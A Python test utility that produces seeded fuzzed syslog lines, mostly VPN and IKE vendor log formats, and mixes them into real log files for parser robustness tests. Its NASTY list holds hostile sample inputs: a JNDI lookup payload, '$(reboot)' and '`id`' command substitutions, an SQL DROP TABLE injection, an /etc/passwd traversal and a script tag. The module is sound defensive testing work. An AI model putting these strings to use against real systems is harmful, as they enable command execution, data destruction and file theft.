"""Fuzzed syslog lines for robustness tests: seeded, so a failure replays exactly.

`fuzz_lines(n, seed)` yields `n` lines (bytes, never containing a newline) of these kinds:

| kind | what |
|---|---|
| `random_bytes` | random bytes, any value but newline |
| `truncated` | a real-looking vendor line cut at a random point (header intact or not) |
| `huge` | a line of about 1 MB (`huge_size`), a real header in front |
| `invalid_utf8` | a valid header and a body with invalid UTF-8 (lone continuation bytes, overlong forms, surrogates) |
| `control` | NUL bytes, terminal escapes and other control characters in a line |
| `junk_body` | a valid syslog header (RFC 3164 or 5424) and a body of printable junk, format strings included |
| `unknown_vendor` | well-formed syslog lines of programs no dialect knows |

Every line with a header names one of `hosts` (default `fuzz-00`..`fuzz-15`), never a real gateway: a
fuzzed line must not change the diagnoses of the gateways it is mixed with (docs/reliability.md).
`mix()` interleaves fuzzed lines into real ones at seeded positions, keeping the real lines' order.
"""

from __future__ import annotations

import random
from collections import Counter
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

KINDS = ("random_bytes", "truncated", "huge", "invalid_utf8", "control", "junk_body", "unknown_vendor")
# Relative frequency of each kind; `huge` lines are counted apart (`huge` argument).
WEIGHTS = {"random_bytes": 3, "truncated": 3, "invalid_utf8": 2, "control": 2, "junk_body": 3,
           "unknown_vendor": 3}
DEFAULT_HOSTS = tuple(f"fuzz-{i:02d}" for i in range(16))
HUGE_SIZE = 1_000_000

# Real-looking lines of the vendors the parser knows, `{h}` = host, `{ip}` = a peer address.
TEMPLATES = (
    "Feb  5 00:01:16 {h} charon[12866]: 12[IKE] <partner-003|1> initiating IKE_SA partner-003[1] to {ip}",
    "Feb  5 00:01:17 {h} charon[12866]: 12[IKE] <partner-003|1> received NO_PROPOSAL_CHOSEN notify error",
    "Feb  5 00:01:18 {h} charon[12866]: 05[IKE] <partner-003|1> IKE_SA partner-003[1] established between "
    "192.0.2.1[192.0.2.1]...{ip}[{ip}]",
    "Feb  5 00:02:01 {h} pluto[811]: \"branch-7\" #3: STATE_MAIN_I1: sent MI1, expecting MR1",
    "Feb 05 2026 00:02:11 {h} : %ASA-5-713041: IP = {ip}, IKE Initiator: New Phase 1, Intf outside, IKE Peer {ip}",
    "Feb  5 00:00:03 {h} 000002: Feb  5 00:00:03.687 UTC: %CRYPTO-5-IKEV2_SESSION_STATUS: Crypto tunnel v2 "
    "is UP.  Peer {ip}:500 Id: {ip}",
    "Feb  5 00:00:38 {h} date=2026-02-05 time=00:00:38 devname=\"{h}\" logid=\"0101037127\" type=\"event\" "
    "subtype=\"vpn\" msg=\"progress IPsec phase 1\" action=\"negotiate\" remip={ip} status=\"failure\"",
    "Feb  5 00:01:31 {h} kmd[19954]: KMD_PM_P1_POLICY_LOOKUP_FAILURE: Policy lookup for Phase-1 [responder] "
    "failed for p1_local=ipv4(udp:500,[0..3]=192.0.2.7) p1_remote=ipv4(udp:500,[0..3]={ip})",
    "Feb  5 00:02:15 {h} ipsec,info initiate new phase 1 (Identity Protection): 192.0.2.10[500]<=>{ip}[500]",
    "1 1770249615.219763041 {h} events Site-to-site VPN: initiate new phase 1 negotiation: "
    "192.0.2.5[500]<=>{ip}[500]",
    "<30>1 2026-02-05T00:03:00.000Z {h} charon 812 - - 14[IKE] <c|1> IDr payload missing",
)

UNKNOWN_PROGRAMS = ("acme-vpnd", "tunnelbroker", "wg-quick", "openvpn", "racoon2", "zebra", "sshd", "cron")
UNKNOWN_BODIES = (
    "tunnel tun{n} peer {ip} state DOWN reason=dpd-timeout",
    "session {n} for {ip} closed after {n}s, bytes in={n} out={n}",
    "Accepted publickey for netops from {ip} port {n} ssh2",
    "peer {ip}: handshake did not complete after {n} seconds, retrying",
    "(root) CMD (run-parts /etc/cron.hourly) id={n}",
)
NASTY = ("%s%s%s%n", "%x %p %d", "{0} {1!r} {__class__}", "${jndi:ldap://198.51.100.9/a}", "$(reboot)",
         "`id`", "'; DROP TABLE diagnoses; --", "../../../../etc/passwd", "\x1b[2J\x1b[H", "\x1b]0;owned\x07",
         "\u202e\u2066", "\\x00\\n", "<script>alert(1)</script>")
_INVALID_UTF8 = (b"\xff", b"\xfe\xff", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\x80\x80", b"\xf8\x88\x80",
                 b"\xc3", b"\xe2\x82")


@dataclass(frozen=True, slots=True)
class FuzzLine:
    kind: str
    data: bytes  # without newline


class Fuzzer:
    def __init__(self, seed: int, hosts: Sequence[str] = DEFAULT_HOSTS, huge_size: int = HUGE_SIZE) -> None:
        self.rng = random.Random(seed)
        self.hosts = tuple(hosts)
        self.huge_size = huge_size

    # -- pieces --------------------------------------------------------------------------------------
    def _ip(self) -> str:
        return f"198.51.100.{self.rng.randrange(1, 255)}"

    def _host(self) -> str:
        return self.rng.choice(self.hosts)

    def _stamp(self) -> str:
        return f"Feb  {self.rng.randrange(5, 7)} {self.rng.randrange(24):02d}:{self.rng.randrange(60):02d}:" \
               f"{self.rng.randrange(60):02d}"

    def _header(self, program: str) -> str:
        if self.rng.random() < 0.3:
            return f"<{self.rng.randrange(192)}>1 2026-02-05T{self.rng.randrange(24):02d}:" \
                   f"{self.rng.randrange(60):02d}:00Z {self._host()} {program} {self.rng.randrange(99999)} - - "
        return f"{self._stamp()} {self._host()} {program}[{self.rng.randrange(1, 65535)}]: "

    def _printable(self, n: int) -> str:
        alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 []<>|=:,.;/\\-_()\"'!?#%&*+@^~"
        text = "".join(self.rng.choices(alphabet, k=n))
        if self.rng.random() < 0.5:
            at = self.rng.randrange(len(text) + 1)
            text = text[:at] + self.rng.choice(NASTY) + text[at:]
        return text

    def _template(self) -> str:
        return self.rng.choice(TEMPLATES).format(h=self._host(), ip=self._ip())

    # -- kinds -----------------------------------------------------------------------------------------
    def random_bytes(self) -> bytes:
        return self.rng.randbytes(self.rng.randrange(1, 2048)).replace(b"\n", b"\x00")

    def truncated(self) -> bytes:
        line = self._template().encode()
        return line[: self.rng.randrange(1, len(line))]

    def huge(self) -> bytes:
        head = self._header(self.rng.choice(("charon", "kmd", "acme-vpnd"))).encode()
        body = self._printable(4096).encode()
        return (head + body * (self.huge_size // len(body) + 1))[: self.huge_size]

    def invalid_utf8(self) -> bytes:
        parts = [self._header(self.rng.choice(("charon", "pluto", "acme-vpnd"))).encode()]
        for _ in range(self.rng.randrange(1, 8)):
            parts.append(self._printable(self.rng.randrange(0, 40)).encode())
            parts.append(self.rng.choice(_INVALID_UTF8))
        return b"".join(parts)

    def control(self) -> bytes:
        host = self._host()
        line = self.rng.choice(TEMPLATES).format(h=host, ip=self._ip()).encode()
        body = line.index(host.encode()) + len(host) + 1  # the header stays a header: the host is known
        for _ in range(self.rng.randrange(1, 6)):
            at = self.rng.randrange(body, len(line) + 1)
            junk = self.rng.choice((b"\x00", b"\x1b[2J", b"\x07", b"\x08\x08\x08", b"\r", b"\x1b]0;x\x07",
                                    b"\x7f", b"\x00\x00\x00\x00"))
            line = line[:at] + junk + line[at:]
        return line

    def junk_body(self) -> bytes:
        program = self.rng.choice(("charon", "pluto", "kmd", "racoon", "ipsec", ""))
        return (self._header(program) + self._printable(self.rng.randrange(0, 300))).encode()

    def unknown_vendor(self) -> bytes:
        body = self.rng.choice(UNKNOWN_BODIES).format(ip=self._ip(), n=self.rng.randrange(1, 100000))
        return (self._header(self.rng.choice(UNKNOWN_PROGRAMS)) + body).encode()

    def line(self, kind: str) -> FuzzLine:
        data: bytes = getattr(self, kind)()
        return FuzzLine(kind, data.replace(b"\n", b" "))


def fuzz_lines(n: int, seed: int, *, huge: int = 3, hosts: Sequence[str] = DEFAULT_HOSTS,
               huge_size: int = HUGE_SIZE) -> Iterator[FuzzLine]:
    """`n` fuzzed lines, `huge` of them about `huge_size` bytes, the same ones for the same seed."""
    fz = Fuzzer(seed, hosts, huge_size)
    kinds = list(WEIGHTS)
    weights = [WEIGHTS[k] for k in kinds]
    huge_at = set(fz.rng.sample(range(n), min(huge, n))) if n else set()
    for i in range(n):
        yield fz.line("huge" if i in huge_at else fz.rng.choices(kinds, weights)[0])


def mix(real: Sequence[bytes], fuzzed: Iterable[FuzzLine], seed: int) -> Iterator[bytes]:
    """All real lines in their order, fuzzed lines in between at seeded positions."""
    rng = random.Random(seed)
    junk = list(fuzzed)
    slots = sorted(rng.randrange(len(real) + 1) for _ in junk)
    j = 0
    for i, line in enumerate(real):
        while j < len(junk) and slots[j] <= i:
            yield junk[j].data
            j += 1
        yield line
    for item in junk[j:]:
        yield item.data


def write_mixed(paths: Sequence[str], out_dir: Path, n: int, seed: int, *, huge: int = 3) -> Counter[str]:
    """Copy each input file into `out_dir` (same name) with its share of `n` fuzzed lines mixed in.

    Returns how many lines of each kind were written.
    """
    out_dir.mkdir(parents=True, exist_ok=True)
    counts: Counter[str] = Counter()
    lines = list(fuzz_lines(n, seed, huge=huge))
    share = -(-len(lines) // max(1, len(paths)))
    for k, path in enumerate(paths):
        mine = lines[k * share:(k + 1) * share]
        counts.update(f.kind for f in mine)
        real = Path(path).read_bytes().splitlines()
        with (out_dir / Path(path).name).open("wb") as fh:
            for data in mix(real, mine, seed + k):
                fh.write(data + b"\n")
    return counts
